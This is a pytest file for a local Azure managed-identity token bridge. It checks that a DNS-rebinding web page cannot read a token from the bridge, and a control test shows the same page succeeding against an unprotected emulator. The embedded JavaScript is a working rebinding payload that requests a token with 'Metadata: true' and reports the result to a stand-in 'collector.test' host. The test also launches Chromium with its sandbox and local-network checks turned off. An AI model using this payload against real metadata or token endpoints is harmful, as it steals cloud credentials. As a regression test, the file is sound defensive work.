"""DNS rebinding, in a real browser: a web page cannot read a token from ``legacy-msi serve``.

A page is loaded from ``http://evil.test:PORT/`` (Chromium's ``--host-resolver-rules`` sends
that name to 127.0.0.1). Then the page's server goes away and the bridge takes its port:
for the browser, the bridge is now same-origin with the page, exactly as after a DNS
rebinding attack, so the page's ``fetch`` may set ``Metadata: true`` without a preflight and
read the answer. The page tries ``fetch``, ``XMLHttpRequest`` and a form, and reports what it
read to a collector. The control runs the same page against a server without the bridge's
checks (the emulator), and the page does read a token there: the browser is not what stops it.
"""

from __future__ import annotations

import http.server
import json
import os
import shutil
import socket
import subprocess
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any, Optional
from urllib.parse import parse_qsl, urlsplit

import pytest
from azure.core.credentials import AccessToken

from legacy_msi_credential.bridge import Bridge, TokenSource
from legacy_msi_credential.emulator import Emulator

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
SECRET = "eyJ0eXAiOiJKV1QiLCJhbGciOiJub25lIn0.eyJhcHBpZCI6ImJyb3dzZXItdGVzdCJ9.c2VjcmV0LXNpZ25hdHVyZQ"

PAGE = """<!doctype html><title>rebinding</title><iframe name="sink"></iframe>
<form id="form" method="POST" action="/oauth2/token" target="sink">
<input name="resource" value="https://management.azure.com/"></form>
<script>
const collector = "http://collector.test:COLLECTOR";
const query = "/oauth2/token?resource=" + encodeURIComponent("https://management.azure.com/");
const report = (what) => fetch(collector + "/report?" + new URLSearchParams(what), {mode: "no-cors"});
const sleep = (ms) => new Promise((done) => setTimeout(done, ms));
async function attack() {
  const out = {};
  try {
    const answer = await fetch(query, {headers: {Metadata: "true"}});
    out.fetch_status = answer.status;
    out.fetch_body = (await answer.text()).slice(0, 3000);
  } catch (error) { out.fetch_error = String(error); }
  await new Promise((done) => {
    const xhr = new XMLHttpRequest();
    xhr.open("GET", query);
    xhr.setRequestHeader("Metadata", "true");
    xhr.onload = () => { out.xhr_status = xhr.status; out.xhr_body = xhr.responseText.slice(0, 3000); done(); };
    xhr.onerror = () => { out.xhr_error = "network error"; done(); };
    xhr.send();
  });
  const frame = document.querySelector("iframe");
  await new Promise((done) => { frame.onload = done; document.getElementById("form").submit(); });
  try { out.form_body = frame.contentDocument.body.innerText.slice(0, 3000); }
  catch (error) { out.form_error = String(error); }
  await report({phase: "result", result: JSON.stringify(out)});
}
(async () => {
  await report({phase: "loaded"});
  for (let i = 0; i < 600; i++) {
    const go = await fetch(collector + "/go").then((r) => r.text()).catch(() => "");
    if (go === "go") { await attack(); return; }
    await sleep(100);
  }
})();
</script>"""


class Collector(http.server.ThreadingHTTPServer):
    """Records the page's reports; answers ``/go`` once the target has taken the page's port."""

    daemon_threads = True

    def __init__(self) -> None:
        self.reports: list[dict[str, str]] = []
        self.go = threading.Event()
        self.arrived = threading.Condition()
        collector = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:
                return None

            def do_GET(self) -> None:
                url = urlsplit(self.path)
                if url.path == "/report":
                    with collector.arrived:
                        collector.reports.append(dict(parse_qsl(url.query)))
                        collector.arrived.notify_all()
                body = b"go" if url.path == "/go" and collector.go.is_set() else b"wait"
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

        super().__init__(("127.0.0.1", 0), Handler)

    def wait_for(self, phase: str, timeout: float) -> Optional[dict[str, str]]:
        deadline = time.monotonic() + timeout
        with self.arrived:
            while True:
                found = next((r for r in self.reports if r.get("phase") == phase), None)
                if found is not None or time.monotonic() > deadline:
                    return found
                self.arrived.wait(0.2)


def serve_page(port: int, collector_port: int) -> http.server.ThreadingHTTPServer:
    page = PAGE.replace("COLLECTOR", str(collector_port)).encode()

    class Handler(http.server.BaseHTTPRequestHandler):
        def log_message(self, *args: Any) -> None:
            return None

        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(page)))
            self.send_header("Connection", "close")
            self.end_headers()
            self.wfile.write(page)

    http.server.ThreadingHTTPServer.allow_reuse_address = True
    server = http.server.ThreadingHTTPServer(("127.0.0.1", port), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


class StandIn:
    def __call__(self, *args: Any) -> StandIn:
        return self

    def get_token(self, *scopes: str) -> AccessToken:
        return AccessToken(SECRET, int(time.time()) + 3600)


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


@pytest.fixture
def browser_run(tmp_path: Path) -> Iterator[Any]:
    if CHROMIUM is None:
        if os.environ.get("CI"):
            pytest.fail("CI installs Debian's chromium (scripts/setup.sh)")
        pytest.skip("needs Debian's chromium")
    collector = Collector()
    threading.Thread(target=collector.serve_forever, daemon=True).start()
    processes: list[subprocess.Popen[bytes]] = []

    def run(start_target: Any) -> dict[str, Any]:
        port = free_port()
        page = serve_page(port, collector.server_address[1])
        rules = "MAP evil.test 127.0.0.1, MAP collector.test 127.0.0.1"
        process = subprocess.Popen(
            [
                str(CHROMIUM),
                "--headless",
                "--no-sandbox",
                "--disable-gpu",
                "--disable-quic",
                "--no-first-run",
                "--disable-background-networking",
                "--disable-component-update",
                "--disable-sync",
                "--disable-features=LocalNetworkAccessChecks,PrivateNetworkAccessRespectPreflightResults",
                f"--host-resolver-rules={rules}",
                f"--user-data-dir={tmp_path / 'profile'}",
                f"http://evil.test:{port}/",
            ],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        processes.append(process)
        loaded = collector.wait_for("loaded", 60)
        assert loaded is not None, "the page never loaded"
        page.shutdown()
        page.server_close()
        target = start_target(port)  # the same origin, now answered by the target
        try:
            collector.go.set()
            result = collector.wait_for("result", 60)
        finally:
            target.stop()
        assert result is not None, "the page never reported"
        parsed: dict[str, Any] = json.loads(result["result"])
        return parsed

    yield run
    for process in processes:
        process.kill()
        process.wait(10)
    collector.shutdown()
    collector.server_close()


def test_a_page_reads_a_token_from_a_server_without_the_checks(browser_run: Any) -> None:
    """The control: the emulator (a faithful stand-in for the extension, with no browser checks)."""
    seen: list[Emulator] = []

    def start(port: int) -> Emulator:
        emulator = Emulator(port=port, ipv6=False).start()
        seen.append(emulator)
        return emulator

    result = browser_run(start)
    assert result.get("fetch_status") == 200, result
    token = json.loads(result["fetch_body"])["access_token"]
    assert token == seen[0].minted_tokens[0]  # the page read it: this is what the bridge must prevent
    assert result.get("xhr_status") == 200


def test_a_page_cannot_read_a_token_from_the_bridge(browser_run: Any) -> None:
    bridges: list[Bridge] = []

    def start(port: int) -> Bridge:
        bridge = Bridge(port=port, source=TokenSource("imds", credential_factory=StandIn())).start()
        bridges.append(bridge)
        return bridge

    result = browser_run(start)
    text = json.dumps(result)
    assert SECRET not in text
    assert SECRET.split(".")[1] not in text
    assert result.get("fetch_status") == 401, result  # the bridge answered, and refused
    assert json.loads(result["fetch_body"])["error"] in ("unknown_source", "unauthorized_client")
    assert result.get("xhr_status") == 401
    assert "access_token" not in result.get("form_body", "")
    assert bridges[0].source.requests == 0  # refused before the source was asked
